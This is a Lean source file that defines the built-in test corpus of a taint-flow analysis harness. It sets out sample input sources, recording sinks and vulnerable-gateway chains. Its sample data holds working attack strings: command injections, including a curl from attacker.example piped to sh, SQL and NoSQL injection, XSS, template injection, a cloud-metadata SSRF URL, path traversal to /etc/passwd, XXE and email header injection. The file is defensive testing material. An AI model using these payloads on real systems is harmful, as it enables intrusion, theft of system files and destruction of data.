import TaintFlow.Harness.Basic

/-!
# The built-in corpus

One inert source for each kind of input, one recording sink for each category
of sinks and some for several at once, and chains modelled on the flows of a
vulnerable gateway: direct routes, stored flows, fan-in, fan-out, and hand-overs
across a boundary.
-/

namespace TaintFlow.Corpus

/-- A mapping from texts to payloads. -/
def fields (entries : List (String × Payload)) : Payload :=
  .map (entries.map fun (key, item) => (.text key, item))

/-- A mapping from texts to texts. -/
def texts (entries : List (String × String)) : Payload :=
  fields (entries.map fun (key, s) => (key, .text s))

/-- The data that the source of a category gives unless the context has some. -/
def sample : SourceCategory → Payload
  | .httpBody => texts [
      ("command", "tar"),
      ("target", "/srv/backups; id"),
      ("options", "-czf"),
      ("url", "http://169.254.169.254/latest/meta-data/"),
      ("template", "\x7b\x7b config.items() \x7d\x7d"),
      ("to", "victim@example.com\r\nBcc: list@example.com"),
      ("subject", "Report\r\nX-Injected: 1"),
      ("store_path", "../../../etc/cron.d/refresh"),
      ("output_path", "../../public/index.html")]
  | .httpQuery => .text "admin' OR '1'='1"
  | .httpHeader => .text "Mozilla/5.0\r\nX-Forwarded-For: 127.0.0.1"
  | .httpParam => .text "../../../../etc/passwd"
  | .cookie => .text "<img src=x onerror=alert(document.cookie)>"
  | .session => .text "<svg onload=alert(1)>"
  | .file => .text "report.sh; curl http://attacker.example/x | sh"
  | .websocket => texts [("action", "lookup"), ("query", "1; DROP TABLE users")]
  | .externalApi => .text "\x7b\x7b7*7\x7d\x7d"
  | .env => .text "/opt/app$(id)"
  | .dns => .text "metadata.internal"
  | .socket => .text "8.8.8.8 && cat /etc/shadow"
  | .webhook => texts [
      ("message", "<script>alert('hook')</script>"),
      ("repository", "demo"),
      ("callback_url", "http://10.0.0.5:8080/admin"),
      ("command", "rm -rf /tmp/cache")]
  | .jwtClaim => fields [("sub", .text "admin"), ("role", fields [("$ne", .null)])]
  | .samlAssertion => .text
      ("<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>" ++
        "<Assertion>&x;</Assertion>")

/-- The sources of the corpus.  What operators of the system configure is trusted somewhat. -/
def sources : List Source :=
  SourceCategory.list.map fun category =>
    { id := category.text, category
      capability := contextField category.text (sample category)
      trust := if category = .env then .semiTrusted else .untrusted
      description := s!"sample {category.text} input" }

/-- The sink that stands for a category. -/
def sinkId : SinkCategory → String
  | .command => "command_exec"
  | .sql => "sql_query"
  | .nosql => "nosql_find"
  | .path => "file_read"
  | .template => "template_render"
  | .xss => "html_response"
  | .ssrf => "http_fetch"
  | .xxe => "xml_parse"
  | .log => "log_write"
  | .email => "email_headers"

/-- A sink that records what it gets. -/
def recordingSink (id : String) (categories : List SinkCategory) (description : String) : Sink :=
  { id, categories := .ofList categories, capability := recording id none, description }

/-- The sinks of the corpus. -/
def sinks : List Sink :=
  (SinkCategory.list.map fun category =>
    recordingSink (sinkId category) [category] s!"records {category.text} payloads") ++
  [recordingSink "file_write_execute" [.path, .command] "writes an uploaded file then executes it",
   recordingSink "fetch_and_store" [.ssrf, .path]
     "fetches a URL then writes the body to a caller-chosen path",
   recordingSink "render_and_save" [.template, .path]
     "renders a template then saves the output to a caller-chosen path",
   recordingSink "archive_extract" [.path]
     "extracts archive entries under a target directory (zip slip)"]

/-- A relay with text parameters. -/
def relay (operator : String) (params : List (String × String) := []) : Step :=
  .relay operator (params.map fun (key, s) => (key, .text s))

/-- A projection to some keys. -/
def destructure (keys : List String) : Step :=
  .relay "destructure" [("keys", .list (keys.map .text))]

/-- A chain of the corpus. -/
def chain (id name : String) (expected : SinkCategory) (tags : List String)
    (first : Step) (rest : List Step) : Chain :=
  { id, name, expected, tags, steps := first :: rest, steps_ne := by simp }

/-- The chains of the corpus. -/
def chains : List Chain :=
  [chain "api-system-execute" "POST /api/system/execute" .command ["direct", "http"]
     (.source "http_body")
     [destructure ["command", "target", "options"], relay "build_command", .sink "command_exec"],
   chain "api-users-search" "POST /api/users/search" .sql ["direct", "http"]
     (.source "http_query")
     [relay "concat" [("prefix", "SELECT * FROM users WHERE name = '"), ("suffix", "'")],
      .sink "sql_query"],
   chain "api-proxy-fetch" "POST /api/proxy/fetch" .ssrf ["direct", "http"]
     (.source "http_body")
     [destructure ["url"], relay "interpolate" [("template", "\x7burl\x7d")], .sink "http_fetch"],
   chain "api-render" "POST /api/render" .template ["direct", "http"]
     (.source "http_body")
     [destructure ["template"], relay "interpolate" [("template", "<div>\x7btemplate\x7d</div>")],
      .sink "template_render"],
   chain "api-files-read" "POST /api/files/read" .path ["direct", "http"]
     (.source "http_param")
     [relay "concat" [("prefix", "/var/app/uploads/")], .sink "file_read"],
   chain "websocket-json-to-sql" "WebSocket message to SQL lookup" .sql
     ["websocket", "serialization"]
     (.source "websocket")
     [relay "json_round_trip", destructure ["query"],
      relay "interpolate" [("template", "SELECT * FROM messages WHERE id = \x7bquery\x7d")],
      .sink "sql_query"],
   chain "session-stored-xss" "Cookie stored in session, rendered later" .xss
     ["stored", "second-order", "session"]
     (.source "cookie")
     [.store ⟨.session, "profile.bio"⟩, .load ⟨.session, "profile.bio"⟩,
      relay "interpolate" [("template", "<p>\x7bvalue\x7d</p>")], .sink "html_response"],
   chain "process-stored-xss" "Webhook message cached process-wide, rendered later" .xss
     ["stored", "second-order", "process"]
     (.source "webhook")
     [destructure ["message"], .store ⟨.process, "webhook.last_message"⟩,
      .load ⟨.process, "webhook.last_message"⟩,
      relay "interpolate" [("template", "<li>\x7bmessage\x7d</li>")], .sink "html_response"],
   chain "header-query-merge-log" "Header and query merged into an access log line" .log
     ["fan-in", "log"]
     (.merge ["http_header", "http_query"] [] "concat_merge" [("separator", .text " ")])
     [relay "concat" [("prefix", "request: ")], .sink "log_write"],
   chain "fanout-ssrf-command" "Webhook URL fetched and passed to a shell" .ssrf ["fan-out"]
     (.source "http_body")
     [destructure ["url"], relay "interpolate" [("template", "\x7burl\x7d")],
      .fanout ["http_fetch", "command_exec"]],
   chain "dns-deferred-ssrf" "DNS answer used after a deferred callback" .ssrf
     ["async", "boundary"]
     (.source "dns")
     [relay "deferred", relay "concat" [("prefix", "http://"), ("suffix", "/health")],
      .sink "http_fetch"],
   chain "socket-message-command" "Socket message queued to a worker that runs ping" .command
     ["async", "boundary"]
     (.source "socket")
     [relay "message_passing", relay "concat" [("prefix", "ping -c 1 ")], .sink "command_exec"],
   chain "jwt-claim-nosql" "JWT claims used as a NoSQL filter" .nosql ["auth"]
     (.source "jwt_claim")
     [destructure ["sub", "role"], relay "json_round_trip", .sink "nosql_find"],
   chain "saml-xxe" "SAML assertion parsed in a worker thread" .xxe ["auth", "boundary"]
     (.source "saml_assertion")
     [relay "worker_thread", .sink "xml_parse"],
   chain "email-header-injection" "POST /api/email/send" .email ["direct", "http"]
     (.source "http_body")
     [destructure ["to", "subject"],
      relay "interpolate" [("template", "To: \x7bto\x7d\nSubject: \x7bsubject\x7d")],
      .sink "email_headers"],
   chain "external-api-base64-template" "Base64 field from an upstream API rendered as a template"
     .template ["encoding", "boundary"]
     (.source "external_api")
     [relay "base64_round_trip", relay "callback",
      relay "interpolate" [("template", "Hello \x7bvalue\x7d")], .sink "template_render"],
   chain "upload-write-execute" "Uploaded file name written then executed" .path
     ["upload", "boundary"]
     (.source "file")
     [.relay "scheduled" [("delay_s", .float (Number.Binary64.zero false))],
      relay "concat" [("prefix", "/tmp/uploads/")], .sink "file_write_execute"],
   chain "env-template-command" "Environment value formatted into a shell line" .command
     ["config"]
     (.source "env")
     [relay "template" [("template", "export APP_HOME=\x7b0\x7d && ./run.sh")],
      .sink "command_exec"],
   chain "session-query-merge-sql" "Stored session value merged with a query filter" .sql
     ["stored", "fan-in", "session"]
     (.source "session")
     [.store ⟨.session, "search.saved"⟩,
      .merge ["http_query"] [⟨.session, "search.saved"⟩] "concat_merge"
        [("separator", .text " AND ")],
      relay "concat" [("prefix", "SELECT * FROM items WHERE ")], .sink "sql_query"],
   chain "ssrf-fetch-then-store" "Fetched URL body stored at a caller path" .ssrf
     ["sequential", "multi-sink"]
     (.source "http_body")
     [destructure ["url", "store_path"], relay "json_round_trip", .sink "fetch_and_store"],
   chain "template-render-and-save" "Rendered template saved to a caller path" .template
     ["sequential", "multi-sink"]
     (.source "http_body")
     [destructure ["template", "output_path"], .sink "render_and_save"],
   chain "webhook-fetch-execute" "POST /api/integration/webhook-execute" .command
     ["sequential", "fan-out"]
     (.source "webhook")
     [destructure ["callback_url", "command"], .fanout ["http_fetch"],
      relay "interpolate"
        [("template", "process_data \"\x7bcallback_url\x7d\" && \x7bcommand\x7d")],
      .sink "command_exec"],
   chain "archive-extract-zip-slip" "POST /api/archive/extract" .path ["upload", "zip-slip"]
     (.source "http_param")
     [relay "worker_thread", relay "concat" [("prefix", "/var/app/extracted/")],
      .sink "archive_extract"]]

/-- Register the corpus. -/
def install (h : Harness) : Except Fault Harness := do
  let sources ← sources.foldlM Sources.add h.network.sources
  let sinks ← sinks.foldlM Sinks.add h.network.sinks
  let h := { h with network := { h.network with sources, sinks } }
  chains.foldlM (fun h c => do return (← h.addChain c).2) h

/-- The harness with the corpus registered; one that has some of its ids already stays. -/
def installed (h : Harness) : Harness := (install h).toOption.getD h

end TaintFlow.Corpus
